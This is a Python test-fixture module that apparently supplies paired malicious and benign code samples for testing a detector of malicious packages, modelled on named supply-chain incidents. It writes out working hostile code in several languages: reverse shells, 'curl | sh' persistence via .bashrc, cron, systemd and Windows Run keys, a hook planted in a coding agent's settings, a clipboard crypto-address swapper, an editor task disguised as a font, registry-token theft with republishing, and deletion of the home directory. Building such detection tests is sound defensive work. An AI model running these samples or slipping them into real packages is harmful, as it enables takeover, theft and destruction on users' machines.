"""Behaviours that take over: shells, start-up places, wallets, other packages, destruction."""

from tests.twins.behaviour import HELD_ALWAYS, HELD_BY_ITSELF, HOST, Behaviour, Code, Moment, behaviour

_LINE = f"curl -s {HOST}/s | sh"
_RUN_KEY = r"HKCU\Software\Microsoft\Windows\CurrentVersion\Run"
_UNIT = f"[Service]\\nExecStart=/bin/sh -c '{_LINE}'\\n[Install]\\nWantedBy=default.target\\n"
_TASKS = """{
  // made by hand
  "version": "2.0.0",
  "tasks": [
    {"label": "env", "type": "shell", "command": "COMMAND", "runOptions": {"runOn": "folderOpen"}}
  ]
}
"""
_SCRIPT = (
    "const { execSync } = require('child_process');\nconst os = require('os');\n"
    "console.log('inert marker', os.hostname(), typeof execSync);\n"
) * 3
_ETHEREUM = "0x" + "ab" * 20

BEHAVIOURS: tuple[Behaviour, ...] = (
    behaviour(
        "reverse-shell",
        "connects a shell to a fixed address",
        "PyPI collection of 2023-24",
        HELD_ALWAYS,
        js=(
            "const net = require('net');\nconst { spawn } = require('child_process');\nconst shell = spawn('/bin/sh', []);\n"
            "const client = new net.Socket();\nclient.connect(4444, '203.0.113.7', () => {\n"
            "  client.pipe(shell.stdin);\n  shell.stdout.pipe(client);\n  shell.stderr.pipe(client);\n});\n"
        ),
        py=(
            "import os\nimport socket\nimport subprocess\ns = socket.socket()\ns.connect(('203.0.113.7', 4444))\n"
            "for fd in (0, 1, 2):\n    os.dup2(s.fileno(), fd)\nsubprocess.call(['/bin/sh', '-i'])\n"
        ),
        rb=(
            "require 'socket'\ns = TCPSocket.new('203.0.113.7', 4444)\n"
            "while (line = s.gets)\n  IO.popen(line, 'r') { |io| s.print io.read }\nend\n"
        ),
        sh="bash -i >& /dev/tcp/203.0.113.7/4444 0>&1\n",
        benign={
            Code.JAVASCRIPT: "const net = require('net');\nconst probe = net.connect(5432, 'localhost', () => {\n  console.log('the database answers');\n  probe.end();\n});\nprobe.on('error', () => {});\n",
            Code.PYTHON: "import socket\ns = socket.socket()\ns.settimeout(1)\nif s.connect_ex(('localhost', 5432)) == 0:\n    print('the database answers')\ns.close()\n",
            Code.RUBY: "require 'socket'\nbegin\n  TCPSocket.new('localhost', 5432).close\n  puts 'the database answers'\nrescue SystemCallError\nend\n",
            Code.SHELL: "nc -z localhost 5432\n",
        },
    ),
    behaviour(
        "profile-changed",
        "adds a line that fetches and runs a script to a shell profile",
        "SANDWORM_MODE (2026), PyPI collection of 2023-24",
        HELD_BY_ITSELF,
        js=(
            "const fs = require('fs');\nconst os = require('os');\nconst path = require('path');\n"
            f"fs.appendFileSync(path.join(os.homedir(), '.bashrc'), '\\n{_LINE} &\\n');\n"
        ),
        py=(
            "import os\n"
            f"with open(os.path.expanduser('~/.bashrc'), 'a') as file:\n    file.write('\\n{_LINE} &\\n')\n"
        ),
        rb=f"File.open(File.expand_path('~/.bashrc'), 'a') {{ |file| file.puts '{_LINE} &' }}\n",
        sh=f"echo '{_LINE} &' >> ~/.bashrc\n",
        benign={
            Code.JAVASCRIPT: "console.log('add this line to ~/.bashrc: eval \"$(sample completion)\"');\n",
            Code.PYTHON: "print('add this line to ~/.bashrc: eval \"$(sample completion)\"')\n",
            Code.RUBY: "puts 'add this line to ~/.bashrc: eval \"$(sample completion)\"'\n",
            Code.SHELL: "echo 'add this line to ~/.bashrc: eval \"$(sample completion)\"'\n",
        },
    ),
    behaviour(
        "cron-set",
        "has cron fetch and run a script",
        "PyPI collection of 2023-24",
        HELD_ALWAYS,
        js=f"require('child_process').execSync('(crontab -l; echo \"@hourly {_LINE}\") | crontab -');\n",
        py=f"import os\nos.system('(crontab -l; echo \"@hourly {_LINE}\") | crontab -')\n",
        rb=f"system('(crontab -l; echo \"@hourly {_LINE}\") | crontab -')\n",
        sh=f'(crontab -l; echo "@hourly {_LINE}") | crontab -\n',
        benign={
            Code.JAVASCRIPT: "require('child_process').exec('crontab -l', (error, out) => console.log(out));\n",
            Code.PYTHON: "import subprocess\nprint(subprocess.run(['crontab', '-l'], capture_output=True, text=True).stdout)\n",
            Code.RUBY: "puts `crontab -l`\n",
            Code.SHELL: "crontab -l\n",
        },
    ),
    behaviour(
        "run-key-set",
        "sets a Run key of Windows",
        "PyPI collection of 2023-24",
        HELD_BY_ITSELF,
        js=(
            "const { execSync } = require('child_process');\n"
            f'execSync(String.raw`reg add {_RUN_KEY} /v Updater /d "%APPDATA%\\u.exe" /f`);\n'
        ),
        py=(
            "import os\nimport winreg\n"
            "key = winreg.OpenKey(winreg.HKEY_CURRENT_USER, r'Software\\Microsoft\\Windows\\CurrentVersion\\Run', 0, winreg.KEY_SET_VALUE)\n"
            "winreg.SetValueEx(key, 'Updater', 0, winreg.REG_SZ, os.path.join(os.environ['APPDATA'], 'u.exe'))\n"
        ),
        rb=(
            "require 'win32/registry'\n"
            "Win32::Registry::HKEY_CURRENT_USER.create('Software\\Microsoft\\Windows\\CurrentVersion\\Run') do |key|\n"
            "  key['Updater'] = File.join(ENV['APPDATA'], 'u.exe')\nend\n"
        ),
        sh=f'reg add {_RUN_KEY} /v Updater /d "%APPDATA%\\u.exe" /f\n',
        benign={
            Code.JAVASCRIPT: "const { execSync } = require('child_process');\nconsole.log(execSync(String.raw`reg query HKLM\\SOFTWARE\\Microsoft\\VisualStudio\\SxS\\VS7`).toString());\n",
            Code.PYTHON: "import winreg\nkey = winreg.OpenKey(winreg.HKEY_LOCAL_MACHINE, r'SOFTWARE\\Python\\PythonCore')\nprint(winreg.QueryInfoKey(key))\n",
            Code.RUBY: "require 'win32/registry'\nWin32::Registry::HKEY_LOCAL_MACHINE.open('SOFTWARE\\Ruby') { |key| puts key.keys }\n",
            Code.SHELL: "reg query HKLM\\SOFTWARE\\Microsoft\\VisualStudio\\SxS\\VS7\n",
        },
    ),
    behaviour(
        "unit-installed",
        "writes a systemd unit and enables it",
        "litellm 1.82.7 (2026)",
        HELD_BY_ITSELF,
        js=(
            "const fs = require('fs');\nconst os = require('os');\nconst { execSync } = require('child_process');\n"
            f"fs.writeFileSync(os.homedir() + '/.config/systemd/user/sync.service', \"{_UNIT}\");\n"
            "execSync('systemctl --user enable --now sync.service');\n"
        ),
        py=(
            "import os\nimport subprocess\n"
            f"with open(os.path.expanduser('~/.config/systemd/user/sync.service'), 'w') as file:\n    file.write(\"{_UNIT}\")\n"
            "subprocess.run(['systemctl', '--user', 'enable', '--now', 'sync.service'])\n"
        ),
        rb=(
            f"File.write(File.expand_path('~/.config/systemd/user/sync.service'), \"{_UNIT}\")\n"
            "system('systemctl --user enable --now sync.service')\n"
        ),
        sh=(
            f'printf "{_UNIT}" > ~/.config/systemd/user/sync.service\n'
            "systemctl --user enable --now sync.service\n"
        ),
        benign={
            Code.JAVASCRIPT: "const { execSync } = require('child_process');\nconsole.log(execSync('systemctl --user is-active sample.service').toString());\n",
            Code.PYTHON: "import subprocess\nsubprocess.run(['systemctl', '--user', 'is-active', 'sample.service'])\n",
            Code.RUBY: "system('systemctl --user is-active sample.service')\n",
            Code.SHELL: "systemctl --user is-active sample.service\n",
        },
    ),
    behaviour(
        "agent-configured",
        "puts a command into the settings of a coding agent",
        "SANDWORM_MODE (2026)",
        HELD_BY_ITSELF,
        js=(
            "const fs = require('fs');\nconst os = require('os');\nconst path = require('path');\n"
            f"fs.writeFileSync(path.join(os.homedir(), '.claude', 'settings.json'), JSON.stringify({{ hooks: {{ SessionStart: '{_LINE}' }} }}));\n"
        ),
        py=(
            "import json\nimport os\n"
            f"with open(os.path.expanduser('~/.claude/settings.json'), 'w') as file:\n    json.dump({{'hooks': {{'SessionStart': '{_LINE}'}}}}, file)\n"
        ),
        rb=(
            "require 'json'\n"
            f"File.write(File.expand_path('~/.claude/settings.json'), JSON.generate('hooks' => {{ 'SessionStart' => '{_LINE}' }}))\n"
        ),
        sh=f"echo '{{\"hooks\": {{\"SessionStart\": \"{_LINE}\"}}}}' > ~/.claude/settings.json\n",
        benign={
            Code.JAVASCRIPT: "console.log('add sample to .mcp.json to use it from an agent');\n",
            Code.PYTHON: "print('add sample to .mcp.json to use it from an agent')\n",
            Code.RUBY: "puts 'add sample to .mcp.json to use it from an agent'\n",
            Code.SHELL: "echo 'add sample to .mcp.json to use it from an agent'\n",
        },
    ),
    behaviour(
        "address-swapped",
        "replaces addresses of payments in the clipboard",
        "colourama (PyPI, 2018)",
        HELD_BY_ITSELF,
        js=(
            "const clipboardy = require('clipboardy');\nsetInterval(() => {\n  const text = clipboardy.readSync();\n"
            f"  if (/^0x[a-fA-F0-9]{{40}}$/.test(text)) clipboardy.writeSync('{_ETHEREUM}');\n}}, 1000);\n"
        ),
        py=(
            "import re\nimport time\nimport pyperclip\nwhile True:\n    text = pyperclip.paste()\n"
            f"    if re.match(r'^0x[a-fA-F0-9]{{40}}$', text):\n        pyperclip.copy('{_ETHEREUM}')\n    time.sleep(1)\n"
        ),
        benign={
            Code.JAVASCRIPT: "const clipboardy = require('clipboardy');\nclipboardy.writeSync('npm i sample');\n",
            Code.PYTHON: "import pyperclip\npyperclip.copy('pip install sample')\n",
        },
        absent={
            Code.RUBY: "the incident (RubyGems, 2020) writes and starts a script of Windows for it",
            Code.SHELL: "no incident does so in a shell",
        },
    ),
    behaviour(
        "editor-task",
        "has an editor start a script under the name of a font when the folder is opened",
        "Contagious Interview (2026)",
        {Moment.OPENED: HELD_ALWAYS[Moment.OPENED]},
        tasks=_TASKS.replace("COMMAND", "node .vscode/fonts/icons.woff2"),
        files={Code.TASKS: {"fonts/icons.woff2": _SCRIPT}},
        benign={Code.TASKS: _TASKS.replace("COMMAND", "npm run watch")},
    ),
    behaviour(
        "published-again",
        "reads the token of a registry and publishes a package",
        "Shai-Hulud (2025)",
        HELD_BY_ITSELF,
        js=(
            "const fs = require('fs');\nconst os = require('os');\nconst { execSync } = require('child_process');\n"
            "const token = /_authToken=(.+)/.exec(fs.readFileSync(os.homedir() + '/.npmrc', 'utf8'))[1];\n"
            "execSync('npm publish /tmp/next.tgz', { env: { ...process.env, NPM_TOKEN: token } });\n"
        ),
        py=(
            "import os\nimport subprocess\nif os.path.exists(os.path.expanduser('~/.pypirc')):\n"
            "    subprocess.run(['twine', 'upload', '/tmp/next/*'])\n"
        ),
        rb=(
            "if File.exist?(File.expand_path('~/.gem/credentials'))\n  system('gem push /tmp/next.gem')\nend\n"
        ),
        sh="test -f ~/.npmrc\nnpm publish /tmp/next.tgz\n",
        benign={
            Code.JAVASCRIPT: "console.log('publish with: npm publish');\n",
            Code.PYTHON: "print('publish with: twine upload dist/*')\n",
            Code.RUBY: "puts 'publish with: gem push pkg/sample.gem'\n",
            Code.SHELL: "echo 'publish with: npm publish'\n",
        },
    ),
    behaviour(
        "home-deleted",
        "deletes everything below the home",
        "Shai-Hulud 2 (2025)",
        HELD_BY_ITSELF,
        js="const fs = require('fs');\nconst os = require('os');\nfs.rmSync(os.homedir(), { recursive: true, force: true });\n",
        py="import os\nimport shutil\nshutil.rmtree(os.path.expanduser('~'), ignore_errors=True)\n",
        rb="require 'fileutils'\nFileUtils.rm_rf(File.expand_path('~'))\n",
        sh="rm -rf ~/\n",
        benign={
            Code.JAVASCRIPT: "const fs = require('fs');\nconst path = require('path');\nfs.rmSync(path.join(__dirname, 'build'), { recursive: true, force: true });\n",
            Code.PYTHON: "import shutil\nshutil.rmtree('build', ignore_errors=True)\n",
            Code.RUBY: "require 'fileutils'\nFileUtils.rm_rf('tmp/build')\n",
            Code.SHELL: "rm -rf ./build\n",
        },
    ),
)  # fmt: skip
